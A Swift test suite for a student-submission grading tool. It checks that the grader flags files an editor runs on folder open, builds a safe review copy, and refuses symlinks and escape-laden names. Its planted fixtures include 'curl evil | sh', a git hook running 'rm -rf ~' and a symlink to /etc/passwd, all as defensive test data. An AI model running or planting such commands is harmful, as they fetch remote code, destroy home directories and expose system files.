import ExerciseCatalog
import Foundation
import Testing
import XMLTestSupport
@testable import Grading
@testable import TerminalUI
@testable import WorkbookBasics
@testable import GradeRecords
@testable import ClassSubmissions
@testable import GradeDisplay
import WorkbookTestSupport

/// A student's folder may hold files an editor runs when it opens the folder: the grade
/// names them, and the review copy holds none of them.
@Suite struct RunsWhenOpenedTests {
    let countdown = Exercise.named("Countdown")
    static let editorPackage = "// swift-tools-version: 6.1\n// the workbook's editor package\n"
    static let rootPackage = "// swift-tools-version: 5.9\n"

    /// A class of four: ada handed in just her Exercises/ with a manifest, editor settings and
    /// more of her own; bo a clone whose manifests are the workbook's but with a .git/ of his
    /// own; cy a clone with the workbook's own manifests only; dee nothing but her exercise.
    func plantedClass() throws -> (workbook: TemporaryWorkbook, class: SubmissionsFolder) {
        let workbook = try TemporaryWorkbook(exercises: [countdown])
        try workbook.write(Self.editorPackage, to: "Exercises/Package.swift")
        try workbook.write(Self.rootPackage, to: "Package.swift")
        let group = SubmissionsFolder()
        try group.hand(in: "// ada's Countdown\n", as: "ada/Countdown.swift")
        try group.hand(in: "import Foundation // reads /etc/shadow\n", as: "ada/Package.swift")
        try group.hand(in: #"{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}"#, as: "ada/.vscode/tasks.json")
        try group.hand(in: "curl evil | sh\n", as: "ada/.envrc")
        try group.hand(in: "all:\n\ttouch /tmp/x\n", as: "ada/notes/deep/Makefile")
        try group.hand(in: "// bo's Countdown\n", as: "bo/Exercises/Countdown.swift")
        try group.hand(in: Self.editorPackage, as: "bo/Exercises/Package.swift")
        try group.hand(in: Self.rootPackage, as: "bo/Package.swift")
        try group.hand(in: "#!/bin/sh\nrm -rf ~\n", as: "bo/.git/hooks/post-checkout")
        try group.hand(in: "// cy's Countdown\n", as: "cy/Exercises/Countdown.swift")
        try group.hand(in: Self.editorPackage, as: "cy/Exercises/Package.swift")
        try group.hand(in: Self.rootPackage, as: "cy/Package.swift")
        try group.hand(in: "// dee's Countdown\n", as: "dee/Exercises/Countdown.swift")
        return (workbook, group)
    }

    func record(_ roster: ClassRoster) -> GradeRecord {
        GradeRecord(exercises: [countdown], students: roster.students,
                    grades: roster.students.map { _ in [ExerciseResult(exercise: countdown, outcome: .notStarted)] })
    }

    @Test func theGradeNamesEachStudentsFilesThatRunWhenOpened() throws {
        let (workbook, group) = try plantedClass()
        let roster = try ClassRoster(folder: group.folder, displayName: "class", workbook: workbook.root)
        #expect(roster.students.map(\.submission.name) == ["ada", "bo", "cy", "dee"])
        let found = roster.students.map { $0.runsWhenOpened.files.map { "\($0.path)\($0.workbooksOwn ? " (own)" : "")" } }
        #expect(found == [
            [".envrc", ".vscode/", "Package.swift", "notes/deep/Makefile"],
            [".git/", "Exercises/Package.swift (own)", "Package.swift (own)"],
            ["Exercises/Package.swift (own)", "Package.swift (own)"],
            [],
        ])
        let record = record(roster)
        let ada = try #require(record.students[0].runsWhenOpened?.note)
        #expect(ada == "not graded: .envrc, .vscode/, Package.swift, notes/deep/Makefile — files an editor runs when it opens this folder; do not open it in an editor, open the review copy")
        #expect(record.students[1].runsWhenOpened?.note?.hasPrefix("not graded: .git/, Exercises/Package.swift (the workbook's own, unchanged), Package.swift (the workbook's own, unchanged) — ") == true)
        #expect(record.students[1].runsWhenOpened?.note?.hasSuffix("do not open it in an editor, open the review copy") == true)
        #expect(record.students[2].runsWhenOpened?.note?.hasSuffix("all the workbook's own; open the review copy all the same") == true)
        #expect(record.students[3].runsWhenOpened == nil)

        // The table, the JSON record (read back, and as a merge keeps it), CSV and JUnit.
        let table = ClassReport(record: record).table(terminal: Terminal(usesColor: false, width: 200))
        #expect(table.contains("ada\n  " + ada + "\n"))
        let json = try record.json()
        #expect(try GradeRecord.read(json, name: "x.json") == record)
        let students = try #require(try JSONSerialization.jsonObject(with: json) as? [String: Any])["students"] as? [[String: Any]]
        let adaFiles = (students?[0]["runsWhenOpened"] as? [String: Any])?["files"] as? [[String: Any]]
        #expect(adaFiles?.map { $0["path"] as? String } == [".envrc", ".vscode/", "Package.swift", "notes/deep/Makefile"])
        #expect(students?[3]["runsWhenOpened"] == nil)
        let csv = String(decoding: GradeCSV.csv(record), as: UTF8.self).components(separatedBy: "\r\n")
        #expect(csv[0].hasSuffix(",max score,runs when opened"))
        #expect(csv[1].hasSuffix(",\"" + ada + "\"")) // quoted: the note holds commas
        #expect(csv[4].hasSuffix(",\(record.maxScore),")) // dee: nothing to say
        let suites = try SerialXML.tree { GradeJUnit.junit(record) }.elements(named: "testsuite")
        #expect(suites[0].elements(named: "system-err").first?.stringValue == ada)
        #expect(suites[3].elements(named: "system-err").isEmpty)
    }

    /// Without the workbook to compare with, every file is the student's: the warning is never
    /// softened by default.
    @Test func withoutTheWorkbookNothingIsCalledItsOwn() throws {
        let (_, group) = try plantedClass()
        let roster = try ClassRoster(folder: group.folder, displayName: "class")
        #expect(roster.students[2].runsWhenOpened.runsStudentsCode)
        #expect(roster.students.flatMap(\.runsWhenOpened.files).allSatisfy { !$0.workbooksOwn })
    }

    /// A grade names a student's file as the student sees it, `Exercises/Countdown.swift`,
    /// never by the instructor's path to the class (issue 33: nothing of the instructor's
    /// tree in a message), whether the submission is a clone or a bare `Exercises/`.
    @Test func pathsInGradesAreTheStudentsOwn() throws {
        let (_, group) = try plantedClass()
        let roster = try ClassRoster(folder: group.folder, displayName: group.folder.path)
        let countdown = Exercise.named("Countdown")
        #expect(roster.students.map { $0.submission.displayPath(of: countdown) } == Array(repeating: "Exercises/Countdown.swift", count: 4))
        #expect(roster.students.flatMap(\.problems).allSatisfy { !$0.contains(group.folder.path) })
    }

    /// A student's folder that links to another student's is refused, not graded as theirs
    /// (a class unpacked from archives keeps such links; red team, kit round, A7).
    @Test func aStudentsFolderThatLinksToAnothersIsNotGradedAsTheirs() throws {
        let (_, group) = try plantedClass()
        let first = try #require(try ClassRoster(folder: group.folder, displayName: "class").students.first)
        let link = group.folder.appendingPathComponent("zz-copier")
        try FileManager.default.createSymbolicLink(atPath: link.path, withDestinationPath: group.folder.appendingPathComponent(first.submission.name).path)
        let copier = try #require(try ClassRoster(folder: group.folder, displayName: "class").students.first { $0.submission.name == "zz-copier" })
        #expect(!PlainFile.isRealFolder(copier.submission.folder), "grading refuses the submission: \(copier.submission.folder.path)")
        #expect(copier.problems == ["class/zz-copier is a symbolic link, not a folder of the class; nothing in it was graded"])
    }

    /// Thousands of files that are not exercises are named up to a bound, then counted: one
    /// student's folder cannot fill the class's records (red team, kit round 2: R3).
    @Test func filesThatAreNotExercisesAreNamedUpToABoundThenCounted() throws {
        let (_, group) = try plantedClass()
        for index in 0..<500 { try group.hand(in: "//\n", as: "junk/Exercises/Junk\(index).swift") }
        let junk = try #require(try ClassRoster(folder: group.folder, displayName: "class").students.first { $0.submission.name == "junk" })
        #expect(junk.problems.count == ClassRoster.namedStrangers + 2, "\(junk.problems.count)")
        #expect(junk.problems.last == "and \(500 - ClassRoster.namedStrangers) more files in Exercises/ that are not exercises; none was graded")
    }

    /// A manifest changed by one byte, or a link to the workbook's own, is not the workbook's.
    @Test func aChangedOrLinkedManifestIsTheStudents() throws {
        let (workbook, group) = try plantedClass()
        try group.hand(in: Self.editorPackage + "// and more\n", as: "cy/Exercises/Package.swift")
        try FileManager.default.removeItem(at: group.folder.appendingPathComponent("cy/Package.swift"))
        try FileManager.default.createSymbolicLink(atPath: group.folder.appendingPathComponent("cy/Package.swift").path,
                                                   withDestinationPath: workbook.root.appendingPathComponent("Package.swift").path)
        let cy = try ClassRoster(folder: group.folder, displayName: "class", workbook: workbook.root).students[2]
        #expect(cy.runsWhenOpened.files == [.init(path: "Exercises/Package.swift", workbooksOwn: false), .init(path: "Package.swift", workbooksOwn: false)])
    }

    /// A link is judged by its own name and never followed; the search stops at its bounds and
    /// then says it is incomplete.
    @Test func theSearchFollowsNoLinkAndSaysWhereItStopped() throws {
        let group = SubmissionsFolder()
        try group.hand(in: "x\n", as: "elsewhere/.vscode/settings.json")
        try group.hand(in: "// ok\n", as: "eve/Countdown.swift")
        let eve = group.folder.appendingPathComponent("eve")
        try FileManager.default.createSymbolicLink(atPath: eve.appendingPathComponent("linked").path, withDestinationPath: "../elsewhere")
        try FileManager.default.createSymbolicLink(atPath: eve.appendingPathComponent(".sourcekit-lsp").path, withDestinationPath: "/")
        let found = RunsWhenOpenedSearch(folder: eve, workbookCounterpart: nil).run()
        #expect(found == RunsWhenOpened(files: [.init(path: ".sourcekit-lsp", workbooksOwn: false)], complete: true))

        let deep = (1...RunsWhenOpenedSearch.depthLimit).map { "d\($0)" }.joined(separator: "/")
        try group.hand(in: "x\n", as: "fay/\(deep)/.envrc")
        let fay = RunsWhenOpenedSearch(folder: group.folder.appendingPathComponent("fay"), workbookCounterpart: nil).run()
        #expect(fay.files.isEmpty)
        #expect(!fay.complete)
        #expect(fay.note?.contains("and maybe more") == true)
        #expect(fay.note?.hasSuffix("do not open it in an editor, open the review copy") == true)

        let many = group.folder.appendingPathComponent("gil/many")
        try FileManager.default.createDirectory(at: many, withIntermediateDirectories: true)
        for index in 0..<RunsWhenOpenedSearch.entryLimit { _ = FileManager.default.createFile(atPath: many.appendingPathComponent("f\(index)").path, contents: nil) }
        try group.hand(in: "x\n", as: "gil/zz/Makefile")
        let gil = RunsWhenOpenedSearch(folder: group.folder.appendingPathComponent("gil"), workbookCounterpart: nil).run()
        #expect(!gil.complete)
        #expect(gil.files.isEmpty)
    }

    @Test func namesThatRunWhenOpened() {
        for name in ["Package.swift", "package.swift", "Package@swift-5.9.swift", "Package.resolved", ".vscode", ".git", "Makefile",
                     "App.xcodeproj", "Try.playground", "work.code-workspace", "buildServer.json", ".envrc", ".devcontainer",
                     ".nvimrc", ".vim", "CMakeLists.txt", "Cargo.toml", "package.json"] {
            #expect(RunsWhenOpenedSearch.runsWhenOpened(name), "\(name)")
        }
        for name in ["Countdown.swift", "README.md", "Packages.swift", "vscode", "Exercises"] {
            #expect(!RunsWhenOpenedSearch.runsWhenOpened(name), "\(name)")
        }
    }
}

/// `grade --review DIR`: only the plain exercise files graded, nothing else.
@Suite struct ReviewCopyTests {
    @Test func holdsOnlyThePlainExerciseFilesGraded() throws {
        let (workbook, group) = try RunsWhenOpenedTests().plantedClass()
        _ = workbook
        try group.hand(in: "// a scratch file\n", as: "bo/Exercises/Scratch.swift")
        try FileManager.default.createSymbolicLink(atPath: group.folder.appendingPathComponent("cy/Exercises/MyAssign.swift").path,
                                                   withDestinationPath: "/etc/passwd")
        try group.hand(in: "// eve's Countdown\n", as: "eve\u{1B}[2J\n/Countdown.swift")
        let roster = try ClassRoster(folder: group.folder, displayName: "class")
        let review = FileManager.default.temporaryDirectory.appendingPathComponent("review-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: review) }

        let names = try ReviewCopy(folder: review, displayName: "review").write(roster.students.map(\.submission), exercises: [.named("Countdown"), .named("MyAssign")])
        #expect(names == ["ada", "bo", "cy", "dee", #"eve\u{1B}[2J\u{A}"#])
        #expect(try ClassroomFilesTests.files(in: review) == [
            "ada/Exercises/Countdown.swift", "bo/Exercises/Countdown.swift", "cy/Exercises/Countdown.swift",
            "dee/Exercises/Countdown.swift", #"eve\u{1B}[2J\u{A}/Exercises/Countdown.swift"#,
        ])
        #expect(FileManager.default.contents(atPath: review.appendingPathComponent("ada/Exercises/Countdown.swift").path) == Data("// ada's Countdown\n".utf8))

        // A folder that is not new or empty is refused, before anything is written.
        #expect(throws: WorkbookError("--review review: not a new or empty folder; give one for the review copy")) {
            try ReviewCopy(folder: review, displayName: "review")
        }
    }

    /// What grading refused through a link is not copied either, and a name whose escapes
    /// make it too long for a folder is cut, not an error for the whole class (red team,
    /// kit round 2: R1, R2).
    @Test func aLinkedSubmissionIsCopiedAsNothingAndALongNameIsCut() throws {
        let (_, group) = try RunsWhenOpenedTests().plantedClass()
        let ada = group.folder.appendingPathComponent("ada")
        try FileManager.default.createDirectory(at: group.folder.appendingPathComponent("mal"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: group.folder.appendingPathComponent("mal/Exercises").path, withDestinationPath: "../ada/Exercises")
        try FileManager.default.createSymbolicLink(atPath: group.folder.appendingPathComponent("mal2").path, withDestinationPath: ada.path)
        let long = String(repeating: "\u{1}", count: 60)
        try group.hand(in: "// a long name's Countdown\n", as: long + "/Exercises/Countdown.swift")
        let roster = try ClassRoster(folder: group.folder, displayName: "class")
        let review = FileManager.default.temporaryDirectory.appendingPathComponent("review-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: review) }
        let names = try ReviewCopy(folder: review, displayName: "review").write(roster.students.map(\.submission), exercises: [.named("Countdown")])
        let files = try ClassroomFilesTests.files(in: review)
        #expect(!files.contains { $0.hasPrefix("mal/") || $0.hasPrefix("mal2/") }, "\(files)")
        let cut = try #require(names.first { $0.hasPrefix("\\u{1}") })
        #expect(cut.utf8.count <= ReviewCopy.nameLimit && cut.hasSuffix("…"))
        #expect(files.contains(cut + "/Exercises/Countdown.swift"))
    }

    @Test func folderNamesShowWhatTheyAreAndNeverCollide() throws {
        #expect(ReviewCopy.folderName(for: "ada") == "ada")
        #expect(ReviewCopy.folderName(for: "..") == #"\u{2E}."#)
        #expect(ReviewCopy.folderName(for: "a\u{202E}b") == #"a\u{202E}b"#)
        let review = FileManager.default.temporaryDirectory.appendingPathComponent("review-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: review) }
        let twins = [Submission(name: "a\u{7}", folder: review, displayFolder: "x"), Submission(name: #"a\u{7}"#, folder: review, displayFolder: "y")]
        let names = try ReviewCopy(folder: review, displayName: "review").write(twins, exercises: [])
        #expect(names == [#"a\u{7}"#, #"a\u{7} (2)"#])
    }
}
